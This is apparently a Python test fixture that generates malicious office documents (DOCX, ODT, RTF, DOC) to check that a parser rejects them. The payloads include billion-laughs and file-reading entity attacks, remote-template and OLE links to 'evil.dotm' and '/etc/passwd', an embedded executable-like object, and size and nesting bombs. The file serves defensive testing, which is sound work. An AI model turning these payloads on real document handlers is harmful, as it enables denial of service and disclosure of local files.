"""Text documents of office programs: entities, objects, templates from outside, groups without end."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from functools import partial

from tests.support.hostile.shape import ORDER_ROWS, ORDER_TEXT, HostileFile, harmless, refused, zipped
from tests.support.hostile.sheets import DTD_ONLY, LAUGHS, SECRET
from tests.support.outlook import compound_file

NOT_YET = ("unsupported_format", "unknown_format")
UNSAFE = ("unsafe_xml", "doctype_refused", "damaged_document", *NOT_YET)
SPENT = ("too_large", "parser_timeout", "parser_memory", "parser_output_too_large", "damaged_document", "too_many_rows", *NOT_YET)
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


TABLE = (
    "<w:tbl>"
    + "".join("<w:tr>" + "".join(f"<w:tc>{paragraph(text)}</w:tc>" for text in row) + "</w:tr>" for row in ORDER_ROWS)
    + "</w:tbl>"
)


def docx(body: str = TABLE, *, head: str = _HEAD, more: Mapping[str, bytes] | None = None) -> bytes:
    """A document around `body`; `more` adds members or replaces them."""
    members = {
        "[Content_Types].xml": f'{_HEAD}<Types xmlns="{_PACKAGE}/content-types"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default '
        'Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" '
        'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "_rels/.rels": f'{_HEAD}<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" '
        f'Type="{_REL}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'{head}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>',
    }
    return zipped(({name: text.encode() for name, text in members.items()} | dict(more or {})).items())


def template(target: str) -> bytes:
    """A template, a picture and a frame from outside."""
    kinds = ("attachedTemplate", "image", "frame", "oleObject", "hyperlink")
    links = "".join(
        f'<Relationship Id="r{n}" Type="{_REL}/{kind}" TargetMode="External" Target="{target}"/>' for n, kind in enumerate(kinds)
    )
    return docx(
        more={
            "word/_rels/document.xml.rels": (
                f'{_HEAD}<Relationships xmlns="{_PACKAGE}/relationships">{links}</Relationships>'
            ).encode(),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500),
        }
    )


def odt(body: str, *, head: str = _HEAD) -> bytes:
    """An OpenDocument text."""
    spaces = " ".join(f'xmlns:{s}="urn:oasis:names:tc:opendocument:xmlns:{s}:1.0"' for s in ("office", "table", "text"))
    return zipped(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            (
                "content.xml",
                f"{head}<office:document-content {spaces}><office:body><office:text>{body}</office:text></office:body>"
                "</office:document-content>".encode(),
            ),
            (
                "META-INF/manifest.xml",
                f'{_HEAD}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'.encode(),
            ),
        ]
    )


def rtf(body: str) -> bytes:
    return ("{\\rtf1\\ansi " + ORDER_TEXT.replace("\n", "\\par\n") + body + "}").encode()


def files() -> Iterator[HostileFile]:
    """Every office document of the set."""
    unsafe, spent = refused(*UNSAFE), refused(*SPENT)
    yield HostileFile("docx billion laughs", partial(docx, paragraph("&k;"), head=_HEAD + LAUGHS), unsafe, "order.docx")
    yield HostileFile("docx reads our files", partial(docx, paragraph("&a;"), head=_HEAD + SECRET), unsafe, "order.docx")
    yield HostileFile("docx with an outside dtd only", partial(docx, head=_HEAD + DTD_ONLY), unsafe, "order.docx")
    yield HostileFile(
        "docx with a doctype in its relations",
        lambda: docx(more={"word/_rels/document.xml.rels": f"{_HEAD}{LAUGHS}<Relationships/>".encode()}),
        unsafe,
        "order.docx",
    )
    yield HostileFile(
        "docx with a template from outside", partial(template, "http://127.0.0.1:9/evil.dotm"), harmless(), "order.docx"
    )
    yield HostileFile(
        "docx with a template that is a file of ours", partial(template, "file:///etc/passwd"), harmless(), "order.docx"
    )
    yield HostileFile(
        "docx of 1,000 tables inside each other",
        lambda: docx("<w:tbl><w:tr><w:tc>" * 1_000 + TABLE + "</w:tc></w:tr></w:tbl>" * 1_000),
        harmless(),
        "order.docx",
    )
    yield HostileFile(
        "docx with a text of 220 MB",
        lambda: docx(more={"word/document.xml": b"<w:document>" + b" " * 220_000_000}),
        spent,
        "order.docx",
        is_heavy=True,
    )
    yield HostileFile("docx of 200,001 paragraphs", lambda: docx(paragraph("x") * 200_001), spent, "order.docx", is_heavy=True)
    yield HostileFile(
        "docx whose cells are a billion wide",
        lambda: docx(TABLE.replace("<w:tc>", '<w:tc><w:tcPr><w:gridSpan w:val="1000000000"/></w:tcPr>')),
        harmless(),
        "order.docx",
    )
    yield HostileFile("odt billion laughs", lambda: odt("<text:p>&k;</text:p>", head=_HEAD + LAUGHS), unsafe, "order.odt")
    yield HostileFile("odt reads our files", lambda: odt("<text:p>&a;</text:p>", head=_HEAD + SECRET), unsafe, "order.odt")
    yield HostileFile(
        "odt of 10^9 blanks", lambda: odt('<text:p>x<text:s text:c="1000000000"/>y</text:p>'), harmless(), "order.odt"
    )
    yield HostileFile(
        "odt with a cell 10^9 times",
        lambda: odt(
            '<table:table><table:table-row table:number-rows-repeated="1000000000"><table:table-cell '
            'table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell></table:table-row></table:table>'
        ),
        harmless(),
        "order.odt",
    )
    yield HostileFile("rtf of 100,000 groups", lambda: rtf("{" * 100_000), harmless(), "order.rtf")
    yield HostileFile(
        "rtf with a program as object",
        lambda: rtf("{\\object\\objemb\\objupdate{\\*\\objclass Package}{\\*\\objdata " + "4d5a" * 50_000 + "}}"),
        harmless(),
        "order.rtf",
    )
    yield HostileFile("rtf with 2^31 bytes to follow", lambda: rtf("{\\pict\\bin2147483647 x}"), harmless(), "order.rtf")
    yield HostileFile(
        "rtf with a template from outside", lambda: rtf("{\\*\\template http://127.0.0.1:9/evil.dotm}"), harmless(), "order.rtf"
    )
    yield HostileFile(
        "rtf of unicode that is none", lambda: rtf("\\uc99999\\u-99999999 \\'zz\\'" * 20_000), harmless(), "order.rtf"
    )
    yield HostileFile(
        "old word document",
        lambda: compound_file({"WordDocument": bytes(5_000), "Macros": {"VBA": {"dir": b"x" * 90}}}),
        refused(*NOT_YET, "message_unreadable"),
        "order.doc",
    )
